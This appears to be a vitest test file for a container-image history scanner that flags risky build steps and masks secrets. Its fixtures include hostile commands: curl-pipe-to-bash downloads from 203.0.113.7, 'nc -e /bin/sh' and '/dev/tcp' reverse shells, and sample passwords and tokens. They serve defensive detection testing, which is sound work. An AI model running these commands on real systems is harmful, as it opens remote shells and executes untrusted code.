import { pluginContract, scanWith } from '@veinmind/plugin-testing'
import { buildContainer, buildImage, layer } from '@veinmind/testing'
import type { BuiltImage, HistoryEntry, ImageOptions } from '@veinmind/testing'
import { expect, test } from 'vitest'
import { OFFICIAL } from '../test/official-images.ts'
import history from './index.ts'

const imageOf = (
  steps: readonly (string | HistoryEntry)[],
  config: ImageOptions['config'] = {},
  more: ImageOptions = {},
): BuiltImage =>
  buildImage(layer({ a: '1' }), layer({ b: '2' }), {
    ...more,
    config: { User: 'app', ...config },
    history: steps.map((step) => (typeof step === 'string' ? { created_by: step } : step)),
  })

const BAD = imageOf(
  [
    '/bin/sh -c #(nop) ADD file:1f2e3d in / ',
    { created_by: '/bin/sh -c #(nop)  ENV DB_PASSWORD=correct-horse-battery', empty_layer: true },
    'RUN |1 URL=http://203.0.113.7/x.sh /bin/sh -c curl -k $URL | bash # buildkit',
    { created_by: 'CMD ["nc" "-e" "/bin/sh" "203.0.113.7" "9"]', empty_layer: true },
  ],
  {
    Env: ['DB_PASSWORD=correct-horse-battery', 'PATH=/tmp:/bin'],
    Cmd: ['nc', '-e', '/bin/sh', '203.0.113.7', '9'],
    OnBuild: ['RUN curl http://a.example/x | sh'],
  },
)

pluginContract(history, {
  samples: [
    BAD,
    buildContainer({
      env: ['GIT_SSL_NO_VERIFY=1'],
      args: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/9 0>&1'],
      user: '0',
    }),
  ],
})

test('a step is told with its layer; build arguments are put in; the configuration and its step are one finding', async () => {
  const report = await scanWith(history, BAD)
  expect(report).toReport({
    rule: 'HIST-002',
    step: 2,
    layer: 1,
    severity: 'high',
    evidence: 'curl -k http://203.0.113.7/x.sh | bash',
  })
  expect(report).toReport({ rule: 'HIST-020', step: 2, layer: 1 })
  expect(report).toReport({ rule: 'HIST-042', object: 'config.Cmd', step: 3, severity: 'critical' })
  expect(report).toReport({ rule: 'HIST-104', object: 'config.Env[PATH]', evidence: '/tmp' })
  expect(report).toReport({ rule: 'HIST-103', object: 'config.OnBuild[0]' })
  const password = report.findings.filter(({ rule }) => rule.id === 'HIST-120')
  expect(password.map(({ locations }) => locations)).toEqual([
    [expect.objectContaining({ step: expect.objectContaining({ index: 1 }) }), { object: 'config.Env[DB_PASSWORD]' }],
  ])
})

test('secrets are masked wherever they stand, the step included', async () => {
  const image = imageOf([
    'RUN |1 NPM_TOKEN=9f8e7d6c5b4a3210 /bin/sh -c curl -k -u joe:hunter22x https://a.example/?t=$NPM_TOKEN',
  ])
  const text = JSON.stringify(await scanWith(history, image, { showSecrets: false }))
  expect(text).not.toContain('9f8e7d6c5b4a3210')
  expect(text).not.toContain('hunter22x')
  expect(text).toContain('HIST-121')
})

test('every secret of an instruction is masked, and all of one that is longer than its rule takes', async () => {
  const secret = (length: number, seed: number) =>
    Array.from({ length }, (_unused, index) => ((index * index * 31 + index * seed) % 36).toString(36)).join('')
  const secrets = [secret(8, 7), secret(201, 11), secret(3000, 13), secret(17_000, 17)]
  const image = buildImage(
    layer({ a: '1' }, { createdBy: `RUN ${secrets.map((one) => `mysql -h db -p${one} -e x`).join(' && ')}` }),
  )
  const { findings } = await scanWith(history, image, { showSecrets: false })
  expect(findings.length).toBeGreaterThan(0)
  const shown = JSON.stringify(
    findings.map(({ evidence, detail, locations }) => [evidence, detail, locations.map(({ step }) => step)]),
  )
  for (const one of secrets)
    for (let at = 0; at + 8 <= one.length; at += 4) expect(shown).not.toContain(one.slice(at, at + 8))
})

test('a secret that the evidence would be cut in is not cut: it could not be masked', async () => {
  const secret = Array.from({ length: 60 }, (_unused, index) => `s3cr3t${index}`)
    .join('')
    .slice(0, 180)
  for (const distance of [0, 50, 90, 95, 99, 100, 101, 150]) {
    const around = `RUN curl -k ${'x'.repeat(distance)} -u joe:${secret} https://a.example ${'y'.repeat(distance)} && wget --no-check-certificate b`
    const text = JSON.stringify(await scanWith(history, imageOf([around]), { showSecrets: false }))
    expect(text).toContain('HIST-122')
    expect(text).not.toContain('s3cr3t1s3cr3t2')
  }
})

test.each([
  ['classic', '/bin/sh -c curl -k https://a.example'],
  ['classic, other shell', '/bin/bash -o pipefail -c curl -k https://a.example'],
  ['BuildKit', 'RUN /bin/sh -c curl -k https://a.example # buildkit'],
  [
    'BuildKit, arguments with spaces',
    'RUN |2 A=-x -y B=2 /bin/ash -eo pipefail -c curl -k https://a.example # buildkit',
  ],
  ['BuildKit, mounts', 'RUN --mount=type=cache,target=/c /bin/sh -c curl -k https://a.example # buildkit'],
  ['BuildKit, here-document', 'RUN /bin/sh -c set -e\ncurl \\\n  -k https://a.example\n # buildkit'],
  ['kaniko', 'RUN curl -k https://a.example'],
  ['buildah', '/bin/sh -c curl -k https://a.example'],
  ['exec form', 'RUN ["curl","-k","https://a.example"]'],
  ['docker commit', 'curl -k https://a.example'],
  ['Windows', 'cmd /S /C curl -k https://a.example'],
  ['Windows, PowerShell', "powershell -Command $ErrorActionPreference = 'Stop'; curl -k https://a.example"],
  ['ONBUILD', 'ONBUILD RUN curl -k https://a.example'],
])('the history of %s is read', async (builder, step) => {
  const report = await scanWith(
    history,
    imageOf([step], builder === 'ONBUILD' ? { OnBuild: [step.slice('ONBUILD '.length)] } : {}),
  )
  expect(report).toReport({ rule: 'HIST-020', step: 0 })
})

test('an image without a history, or with an empty one (ko, bazel, jib, import), is no trouble', async () => {
  for (const steps of [
    [],
    [''],
    ['bazel build ...', 'jib-maven-plugin:3.4.0', 'ko build ./cmd/app', 'Imported from -', '/bin/sh -c #(nop) '],
  ]) {
    expect(await scanWith(history, imageOf(steps))).toReportNothing()
  }
})

test('what a later step replaces is not in effect; what it leaves in a layer or the history is', async () => {
  const steps = [
    'USER root',
    'CMD ["bash" "-c" "curl http://a.example | sh"]',
    'ENV API_TOKEN=9f8e7d6c5b4a3210',
    'ENV API_TOKEN=',
    'USER app',
    'CMD ["app"]',
  ]
  const report = await scanWith(history, imageOf(steps, { Cmd: ['app'], Env: ['API_TOKEN='] }))
  expect(report.findings.map(({ rule }) => rule.id)).toEqual(['HIST-120'])
})

test('root by default is low, and said once', async () => {
  for (const User of ['', 'root', '0:0']) {
    const { findings } = await scanWith(history, imageOf(['RUN true'], { User }))
    expect(findings.map(({ rule, severity }) => [rule.id, severity])).toEqual([['HIST-100', 'low']])
  }
  expect(
    await scanWith(history, imageOf([], { User: '' }, { platform: { os: 'windows', architecture: 'amd64' } })),
  ).toReportNothing()
})

test.each(Object.entries(OFFICIAL))(
  'an image like the official %s has no finding above low, and few of those',
  async (_name, make) => {
    const { findings, errors } = await scanWith(history, make())
    expect(errors).toEqual([])
    expect(
      findings.filter(({ severity }) => severity !== 'low').map(({ rule, evidence }) => `${rule.id} ${evidence}`),
    ).toEqual([])
    expect(findings.length).toBeLessThanOrEqual(2)
  },
)

test('what is longer, or more, than what is looked at makes the outcome partial', async () => {
  const long = await scanWith(history, imageOf([`RUN ${'true; '.repeat(20_000)}`]))
  expect(long.plugins[0]).toMatchObject({ outcome: 'partial', reason: expect.stringContaining('longer than 65536') })
  const variable = await scanWith(history, imageOf([], { Env: [`A=${'b'.repeat(70_000)}`, `B=${'b'.repeat(70_000)}`] }))
  expect(variable.plugins[0]).toMatchObject({
    outcome: 'partial',
    reason: expect.stringContaining('longer than 65536'),
  })
  const many = await scanWith(
    history,
    imageOf([], { Env: Array.from({ length: 1_001 }, (_unused, index) => `A${index}=1`) }),
  )
  expect(many.plugins[0]).toMatchObject({
    outcome: 'partial',
    reason: expect.stringContaining('more than 1000 values'),
  })
  const steps = await scanWith(history, imageOf(Array.from({ length: 5_001 }, (_unused, index) => `RUN ${index}`)))
  expect(steps.plugins[0]).toMatchObject({
    outcome: 'partial',
    reason: expect.stringContaining('more than 5000 steps'),
  })
})

test('a history made to be slow is ended by the time limit of the plugin, and what was found is said', async () => {
  const slow = Array.from({ length: 500 }, (_unused, index) => `RUN ${index} ${'wget http://a /tmp/ '.repeat(3_000)}`)
  const started = performance.now()
  const report = await scanWith(history, imageOf(['RUN nc -e /bin/sh 203.0.113.7 9', ...slow]), { pluginTimeout: 500 })
  expect(report.plugins[0]).toMatchObject({ outcome: 'partial', reason: expect.stringContaining('longer than') })
  expect(report).toReport({ rule: 'HIST-042', step: 0 })
  expect(performance.now() - started).toBeLessThan(15_000)
})

test('rules of a user are added by file; a broken file is said and not scanned around', async () => {
  const image = imageOf(['RUN make bomb'])
  const mine = [
    {
      id: 'MINE-1',
      title: 'No bombs',
      severity: 'high',
      on: ['RUN'],
      match: ['\\bBOMB\\b'],
      ignoreCase: true,
      unless: ['--dry-run'],
    },
  ]
  const rules = (text: string) => ({ options: { rules: { path: 'mine.json', text } } })
  expect(await scanWith(history, image, rules(JSON.stringify(mine)))).toReport({ rule: 'MINE-1', severity: 'high' })
  expect(await scanWith(history, imageOf(['RUN make bomb --dry-run']), rules(JSON.stringify(mine)))).toReportNothing()
  await expect(scanWith(history, image, rules('[{}]'))).rejects.toMatchObject({
    code: 'HISTORY_RULES_INVALID',
    isUsage: true,
    message: expect.stringContaining('mine.json[0]'),
  })
})

test('a step that becomes too long with its build arguments is told', async () => {
  const step = (times: number): string =>
    `RUN |1 A=${'x'.repeat(1_000)} /bin/sh -c echo ${'$A'.repeat(times)} # buildkit`
  const reasonsOf = async (times: number): Promise<readonly string[]> => {
    const { plugins } = await scanWith(history, imageOf([step(times)]))
    return plugins.flatMap(({ coverage }) => coverage.problems.map(({ reason }) => reason))
  }
  expect(await reasonsOf(70)).toEqual([expect.stringContaining('with its build arguments put in')])
  expect(await reasonsOf(60)).toEqual([])
})
